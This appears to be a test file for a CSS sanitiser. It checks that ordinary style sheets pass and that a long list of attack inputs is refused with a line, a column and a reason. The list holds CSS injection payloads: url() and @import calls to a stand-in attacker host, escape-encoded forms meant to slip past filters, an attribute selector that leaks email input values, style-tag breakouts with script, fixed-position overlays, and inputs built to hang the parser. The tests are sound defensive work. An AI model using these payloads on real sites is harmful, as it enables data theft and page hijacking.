import assert from 'node:assert/strict'
import { test } from 'node:test'
import { publishedCss } from './address.ts'
import { checkCss, withoutFaults } from './check.ts'

const files = ['hero.png', 'brand.woff2']
const whys = (css: string) => checkCss(css, files).faults.map(({ why }) => why)

test('what styles a page passes, and is written anew', () => {
  const good = `
/* Ours */
:root { --band: #123456; --wide: calc(100% - 2 * var(--gap, 8px)) }
.top { background: linear-gradient(to right, var(--band), color-mix(in oklch, red 20%, blue)) no-repeat; position: relative }
.top:hover > a[href^="https:"]::before { content: "\\201C"; }
@media (min-width: 40em) and (prefers-color-scheme: dark) { .card { grid-template-columns: repeat(auto-fit, minmax(10rem, 1fr)) } }
@supports (display: grid) { .card { display: grid } }
@container (width > 400px) { .card { padding: 1rem } }
@layer brand { .card { color: rgb(1 2 3 / 50%) } }
@keyframes in { from { opacity: 0 } 50% { opacity: .5 } to { opacity: 1 } }
.card { &:has(> .mark) { animation: in 200ms ease-in 1; transform: translateY(2px) } }
.now { background-image: url(hero.png); mask: url("./hero.png") }
@font-face { font-family: "Brand"; src: url(brand.woff2) format("woff2"); font-display: swap; unicode-range: U+0-7F }
`
  const { faults, css, files: used } = checkCss(good, files)
  assert.deepEqual(faults, [])
  assert.deepEqual(used, ['hero.png', 'brand.woff2'])
  const published = publishedCss(css, (name) => (name === 'hero.png' ? 'u-1.png' : null))
  assert.match(published, /background-image:url\("u-1\.png"\);mask:url\("u-1\.png"\)/)
  assert.match(published, /src:none/)
  assert.doesNotMatch(published, /u-file|Ours/)
})

/** S-XSS-4, and more of its kind. */
const attacks = [
  '@import "https://evil.example/a.css";',
  '@import url(//evil.example/a.css);',
  '@\\69mport "https://evil.example/a.css";',
  '.a { background: url(https://evil.example/a.png) }',
  '.a { background: url("//evil.example/a.png") }',
  ".a { background: url( 'hero.png?x=https://evil.example' ) }",
  '.a { background: url(../../hero.png) }',
  '.a { background: url(data:image/svg+xml,x) }',
  '.a { background: \\75rl(https://evil.example/a.png) }',
  '.a { background: u\\72l("https://evil.example/a.png") }',
  '.a { background: URL(https://evil.example/a.png) }',
  '.a { background: image-set("https://evil.example/a.png" 1x) }',
  '.a { background: -webkit-image-set(url(https://evil.example/a.png) 1x) }',
  '.a { background: image("https://evil.example/a.png") }',
  '.a { background: cross-fade(url(https://evil.example/a.png), white) }',
  '.a { background: src("https://evil.example/a.png") }',
  '.a { background: src(var(--x)) }',
  ':root { --x: url(https://evil.example/a.png) } .a { background: var(--x) }',
  ':root { --x: { background: url(https://evil.example) } }',
  'input[name="email"][value^="a"] { background: url(https://evil.example/a) }',
  '@font-face { font-family: x; src: url(https://evil.example/x); unicode-range: U+41 }',
  '@font-face { font-family: x; src: local(x), url(//evil.example/x) }',
  '@namespace url(https://evil.example);',
  '@charset "utf-7";',
  '@property --x { syntax: "<url>"; inherits: false; initial-value: url(https://evil.example) }',
  '@supports (background: url(https://evil.example/a.png)) { a { color: red } }',
  '@page { background: url(https://evil.example) }',
  '@document url(https://evil.example) { a { color: red } }',
  '</style><script>alert(1)</script>',
  '<!-- .a { color: red } -->',
  '.overlay { position: fixed; inset: 0 }',
  '.overlay { position: sticky }',
  '.overlay { POSITION: FIXED }',
  '.overlay { p\\6fsition: fixed }',
  '.overlay { position: f\\69xed }',
  '.overlay { --p: fixed; position: var(--p) }',
  '.a { behavior: url(hero.png) }',
  '.a { -moz-binding: url(hero.png#x) }',
  '.a { width: expression(alert(1)) }',
  '.a { filter: progid:DXImageTransform.Microsoft.AlphaImageLoader(src="https://evil.example") }',
  '.a { background: element(#x) }',
  '.a { content: attr(value url) }',
  '.a { cursor: url(https://evil.example/c.cur), auto }',
  '.a { list-style: url(https://evil.example) }',
  `${':has(a)'.repeat(20)} { color: red }`,
  `${'a>'.repeat(60)}b { color: red }`,
  `${'.a'.repeat(500_000)} { color: red }`,
  `${'.a{'.repeat(50)}${'}'.repeat(50)}`,
  `${'a{}'.repeat(3000)}`,
  `.a { width: ${'calc('.repeat(500)}1px${')'.repeat(500)} }`,
  '.a { color: }} .b { x: y',
  '.a { color: red\u0000 }',
]

test('what fetches, covers or hangs is refused, with its place and a reason', () => {
  for (const css of attacks) {
    const { faults, css: published } = checkCss(css, files)
    assert.ok(faults.length > 0, css.slice(0, 200))
    assert.equal(published, '')
    for (const { line, column, why } of faults) {
      assert.ok(line >= 1 && column >= 1)
      assert.match(why, /expected|would load|belongs/)
    }
  }
})

test('a fault says its line', () => {
  const [one] = checkCss('.a { color: red }\n.b {\n  background: url(//evil.example)\n}', files).faults
  assert.deepEqual([one?.line, one?.column], [3, 15])
  assert.match(whys('.a { position: fixed }')[0] ?? '', /expected position: static, relative/)
})

test('without its faults a style sheet is as it was written otherwise', () => {
  const css = `@import url(https://evil.example);\n/* mine */\n.a { color: red; background: url(//evil.example); margin: 0 }\n.b { position: fixed }`
  const left = withoutFaults(css, files) ?? ''
  assert.match(left, /\/\* mine \*\/\n\.a \{ color: red; {2}margin: 0 \}\n\.b \{ \}/)
  assert.deepEqual(checkCss(left, files).faults, [])
  for (const attack of attacks) {
    const rest = withoutFaults(attack, files)
    if (rest !== null)
      assert.doesNotMatch(checkCss(rest, files).css, /evil|position:(fixed|sticky)|script/i, attack.slice(0, 200))
  }
})

test('text never ends the element in which a preview shows it', () => {
  const { css } = checkCss('.a::before { content: "</style><script>alert(1)</script>" }', files)
  assert.doesNotMatch(css, /<\//)
})
